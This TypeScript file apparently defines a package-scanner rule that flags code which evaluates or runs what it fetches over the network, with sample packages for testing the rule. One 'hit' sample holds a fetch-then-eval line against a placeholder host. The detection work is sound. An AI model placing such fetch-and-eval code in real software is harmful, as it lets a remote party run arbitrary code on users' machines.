import type { Rule } from '../rule';

export const codeRemoteCode: Rule = {
  code: 'code-remote-code',
  ecosystem: 'any',
  kind: 'code',
  severity: 'high',
  verdict: 'suspicious',
  tactic: 'execution',
  capabilities: ['network', 'subprocess', 'dynamic-code'],
  languages: ['javascript', 'python'],
  summary: 'What comes over the network is evaluated or run.',
  message: 'evaluates or runs what comes over the network',
  pattern: { where: 'code', any: ['remote-code', 'remote-shell'] },
  samples: {
    hits: [
      {
        what: 'fetched code',
        format: 'tarball',
        files: { 'index.js': 'fetch("https://a.invalid").then((r) => r.text()).then((t) => eval(t));' },
        verdict: 'suspicious',
      },
    ],
    ignores: [
      {
        what: 'fetched data',
        format: 'tarball',
        files: {
          'index.js':
            'module.exports = () => fetch("https://a.invalid").then((r) => r.json()).then((t) => t.version);',
        },
        why: 'What comes is read, and not run.',
        verdict: 'clean',
      },
      {
        what: 'a program that is told a free port',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import socket, subprocess\n\ndef port():\n    with socket.socket() as s:\n        s.bind(("", 0))\n        return s.getsockname()[1]\n\ndef run():\n    subprocess.run(["serve", str(port())])\n\ndef evaluated(x):\n    return eval(x)\n',
        },
        why: 'Which port the system gave comes from nobody else.',
        verdict: 'clean',
      },
    ],
  },
};
